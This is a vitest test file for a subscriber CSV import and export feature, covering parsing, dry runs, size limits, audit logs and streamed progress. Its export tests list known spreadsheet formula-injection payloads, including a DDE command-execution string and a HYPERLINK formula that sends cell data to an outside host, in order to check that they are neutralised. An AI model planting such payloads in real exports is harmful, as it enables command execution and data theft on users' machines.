import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { auditRoutes } from '#contract/audit.ts';
import { ERROR_MESSAGES, errorBodySchema } from '#contract/errors.ts';
import { IMPORT_MESSAGES, MARKED_MESSAGES } from '#contract/families/import-messages.ts';
import { FIELD_MESSAGES } from '#contract/fields.ts';
import { serviceRoutes } from '#contract/service.ts';
import {
  IMPORT_MAX_BYTES,
  importEvent,
  SUBSCRIBER_MESSAGES,
  subscriberRoutes,
} from '#contract/subscribers.ts';
import { subscribers } from '#server/platform/db/schema/subscribers.ts';
import { buildTestApp, type TestApp } from '#test/app.ts';
import { importBody } from '#test/examples/families.ts';
import { createSchool, type TestSchool } from '#test/factories.ts';
import { MULTIPART, multipartBody } from '#test/multipart.ts';

const { importSubscribers, exportSubscribers } = subscriberRoutes;

let test: TestApp;
let school: TestSchool;
beforeAll(async () => {
  test = await buildTestApp();
});
beforeEach(async () => {
  school = await createSchool(test);
});
afterAll(async () => await test.close());

function send(file: string | Buffer, more: { dryRun?: boolean; accept?: string; by?: TestSchool } = {}) {
  return test.call(importSubscribers, {
    token: (more.by ?? school).owner.token,
    ...(more.dryRun && { query: { dry_run: 'true' } }),
    body: importBody(file),
    headers: { ...MULTIPART, ...(more.accept !== undefined && { accept: more.accept }) },
  });
}

const imported = async (...given: Parameters<typeof send>) => (await send(...given)).ok().import;
const refusal = async (...given: Parameters<typeof send>) => {
  const answer = await send(...given);
  expect(answer.status).toBe(400);
  return answer.error().error_message;
};

async function stored(of: TestSchool = school): Promise<string[]> {
  const rows = await test.context.database
    .orm()
    .select()
    .from(subscribers)
    .where(eq(subscribers.schoolId, of.id))
    .orderBy(subscribers.email);
  return rows.map(({ firstName, lastName, email }) => `${firstName} ${lastName} <${email}>`);
}

async function unsubscribe(email: string): Promise<void> {
  const whose = and(eq(subscribers.schoolId, school.id), eq(subscribers.email, email));
  await test.context.database.orm().update(subscribers).set({ status: 'unsubscribed' }).where(whose);
}

describe('a file', () => {
  it('is stored as it is parsed', async () => {
    const file = 'First name;Last name;Email\nJosé;Nuñez;jose@x.example\n"Zoë";"O’Neil";ZOE@x.example\n';
    expect(await imported(file)).toMatchObject({ added: 2, updated: 0, skipped: 0, errors: [] });
    expect(await stored()).toEqual(['José Nuñez <jose@x.example>', 'Zoë O’Neil <zoe@x.example>']);
  });

  it('is stored without its broken lines', async () => {
    const file = 'Class,First name,Last name,Email\n4B,Ben,Lee,ben@x.example\n4B,"Ann,Lee,ann@x.example\n';
    const result = await imported(file);
    expect(result.errors).toEqual([{ line: 3, message: IMPORT_MESSAGES.quote }]);
    expect(result.ignored_columns).toEqual(['Class']);
    expect(await stored()).toEqual(['Ben Lee <ben@x.example>']);
  });

  it('is refused with a message', async () => {
    expect(await refusal('First name,Last name,Email\n')).toBe(IMPORT_MESSAGES.noPeople);
    expect(await stored()).toEqual([]);
  });

  // Threat 47. Parsed on the main thread, it would let at most one other call through.
  it('is parsed while other calls are answered', async () => {
    const commas = `Name,Email\n${`${','.repeat(240)}\n`.repeat(20_000)}`;
    let isRead = false;
    const reading = send(commas, { dryRun: true }).finally(() => {
      isRead = true;
    });
    let answered = 0;
    while (!isRead) {
      (await test.call(serviceRoutes.health)).ok();
      if (!isRead) answered += 1;
    }
    expect((await reading).error().error_message).toBe(IMPORT_MESSAGES.noPeople);
    expect(answered).toBeGreaterThan(10);
  });

  it('is refused if missing, too long or too large', async () => {
    const body = multipartBody([{ name: 'dry_run', content: Buffer.from('true') }]);
    const none = await test.call(importSubscribers, {
      token: school.owner.token,
      body,
      headers: MULTIPART,
    });
    expect(none.error().errors).toEqual({ file: [SUBSCRIBER_MESSAGES.chooseFile] });
    expect(await refusal(`Name,Email\n${'a b,c@d.example\n'.repeat(20_001)}`)).toBe(IMPORT_MESSAGES.tooMany);
    // Nobody else's file has to wait until millions of blank lines are read.
    expect(await refusal(`Name,Email\n${'\n'.repeat(200_001)}`)).toBe(IMPORT_MESSAGES.tooMany);
    const large = await send(Buffer.alloc(IMPORT_MAX_BYTES + 1, 'a'));
    expect(large.status).toBe(413);
    expect(large.error().error_message).toBe(ERROR_MESSAGES.fileTooLarge);
  });
});

const MIXED = [
  'first_name,last_name,email,status',
  'Ann,Lee,ann@x.example,',
  'Ben,New,ben@x.example,',
  '',
  'Cat,Gone,cat@x.example,',
  'Dan,Erased,dan@x.example,',
  'Eve,Fresh,eve@x.example,subscribed',
  '"Eve\nTwice",Fresh,EVE@x.example,',
  ',Nameless,not an address,',
  'Fay,Left,fay@x.example,Unsubscribed',
].join('\n');

describe('an import', () => {
  beforeEach(async () => {
    await imported('Name,Email\nAnn Lee,ann@x.example\nBen Old,ben@x.example\nCat Gone,cat@x.example\n');
    await unsubscribe('cat@x.example');
    const dan = (await imported('Name,Email\nDan Erased,dan@x.example\n')).lines[0];
    await unsubscribe('dan@x.example');
    const { data } = (
      await test.call(subscriberRoutes.listSubscribers, {
        token: school.owner.token,
        query: { search_string: dan?.email ?? '' },
      })
    ).ok().subscribers;
    await test.call(subscriberRoutes.deleteSubscriber, {
      token: school.owner.token,
      params: { id: data[0]?.id ?? '' },
    });
  });

  const wanted = [
    [2, 'skipped', IMPORT_MESSAGES.same],
    [3, 'updated', IMPORT_MESSAGES.renamed('Ben Old')],
    [5, 'skipped', IMPORT_MESSAGES.unsubscribed],
    [6, 'skipped', IMPORT_MESSAGES.unsubscribed],
    [7, 'added', undefined],
    [8, 'skipped', IMPORT_MESSAGES.twice(7)],
    [10, 'error', `Email: ${FIELD_MESSAGES.email}`],
    [11, 'skipped', MARKED_MESSAGES.unsubscribed.marked],
  ];

  it('reports every line’s outcome in a dry run and changes nothing', async () => {
    const before = await stored();
    const result = await imported(MIXED, { dryRun: true });
    expect(result.lines.map(({ line, outcome, message }) => [line, outcome, message])).toEqual(wanted);
    expect(result).toMatchObject({ dry_run: true, added: 1, updated: 1, skipped: 5 });
    expect(result.errors).toEqual([{ line: 10, message: wanted[6]?.[2] }]);
    expect(await stored()).toEqual(before);
  });

  it('takes families without a name, as an exported file has them, and takes nobody’s name', async () => {
    const file = 'first_name,last_name,email\n,,nameless@x.example\n,,ann@x.example\n';
    const outcomes = async () =>
      (await imported(file)).lines.map(({ outcome, message }) => [outcome, message]);
    const kept = ['skipped', IMPORT_MESSAGES.same];
    expect(await outcomes()).toEqual([['added', undefined], kept]);
    expect(await outcomes()).toEqual([kept, kept]);
  });

  it('does what the dry run reported, and nothing the second time', async () => {
    const dry = await imported(MIXED, { dryRun: true });
    // The dry run suggests that people marked as unsubscribed leave; without a choice they do not.
    expect(await imported(MIXED)).toEqual({ ...dry, dry_run: false, leaves: false, email_columns: [] });
    expect(await stored()).toEqual([
      'Ann Lee <ann@x.example>',
      'Ben New <ben@x.example>',
      'Cat Gone <cat@x.example>',
      'Eve Fresh <eve@x.example>',
    ]);
    expect(await imported(MIXED)).toMatchObject({ added: 0, updated: 0, skipped: 7 });
    const left = await test.context.database
      .orm()
      .select({ email: subscribers.email })
      .from(subscribers)
      .where(and(eq(subscribers.schoolId, school.id), eq(subscribers.status, 'unsubscribed')));
    expect(left).toEqual([{ email: 'cat@x.example' }]);
  });

  it('is recorded in the log, as is an export, but not a dry run', async () => {
    await imported(MIXED, { dryRun: true });
    test.clock.advance(1000);
    await imported(MIXED);
    test.clock.advance(1000);
    await test.call(exportSubscribers, { token: school.owner.token });
    const call = { token: school.owner.token, params: { id: school.id } };
    const log = (await test.call(auditRoutes.auditLog, call)).ok().audit_log.data;
    expect(
      log.slice(0, 2).map(({ attributes: { action, subject, details } }) => [action, subject, details]),
    ).toEqual([
      ['subscribers_exported', 'the subscribers', {}],
      ['subscribers_imported', 'parents.csv', { added: 1, updated: 1, agreement: 'told' }],
    ]);
    expect(log).toHaveLength(4);
  });

  it('streams its progress on request, one JSON value a line', async () => {
    const people = Array.from({ length: 600 }, (_, index) => `P${index},Q,p${index}@x.example`);
    const file = `first_name,last_name,email\n${people.join('\n')}\n`;
    const answer = await send(file, { accept: 'application/x-ndjson' });
    expect(answer.headers['content-type']).toBe('application/x-ndjson');
    const lines = answer.text.trimEnd().split('\n');
    const progress = lines.slice(0, -1).map((line) => importEvent.parse(JSON.parse(line)).progress);
    expect(progress[0]).toEqual({ done: 0, total: 600 });
    expect(progress.length).toBeGreaterThan(1);
    expect(
      subscriberRoutes.importSubscribers.reply.parse(JSON.parse(lines.at(-1) ?? '')).import,
    ).toMatchObject({
      added: 600,
      errors: [],
    });
    expect(await stored()).toHaveLength(604 - 1);
    const broken = await send('Name\nAnn', { accept: 'application/x-ndjson' });
    expect(broken.status).toBe(400);
    expect(errorBodySchema.parse(JSON.parse(broken.text)).error_message).toBe(
      IMPORT_MESSAGES.noEmail('Name'),
    );
  });
});

describe('an export', () => {
  // Known formula injections.
  const formulas = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"a")',
    '＝1',
    "'=1",
    "''=1",
    "'quoted'",
    'a;b\t"c",d',
    'Zoë',
  ];

  it('contains no formulas for a spreadsheet, and imports unchanged', async () => {
    for (const [index, name] of formulas.entries()) {
      const person = { first_name: name, last_name: name, email: `p${index}@x.example` };
      const call = { token: school.owner.token, body: { subscriber: person } };
      (await test.call(subscriberRoutes.createSubscriber, call)).ok();
    }
    const answer = await test.call(exportSubscribers, { token: school.owner.token });
    expect(answer.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="subscribers.csv"',
    });
    const [heading] = answer.text.split('\r\n');
    expect(heading).toBe('\uFEFFfirst_name,last_name,email,status,unsubscribed_at,added_at,groups');
    const cells = answer.text
      .split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
      .map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+\-@\t\r\n＝]/.test(cell))).toEqual([]);
    expect(await imported(answer.text, { dryRun: true })).toMatchObject({
      added: 0,
      updated: 0,
      skipped: formulas.length,
      errors: [],
    });
    const other = await createSchool(test);
    await imported(answer.text, { by: other });
    expect(await stored(other)).toEqual(await stored());
  });

  it('does not subscribe unsubscribed people when another school imports it', async () => {
    await imported('Name,Email\nAnn Lee,ann@x.example\nBen Old,ben@x.example\n');
    await unsubscribe('ben@x.example');
    const { text } = await test.call(exportSubscribers, { token: school.owner.token });
    const other = await createSchool(test);
    expect(await imported(text, { by: other })).toMatchObject({ added: 1, skipped: 1 });
    expect(await stored(other)).toEqual(['Ann Lee <ann@x.example>']);
  });
});
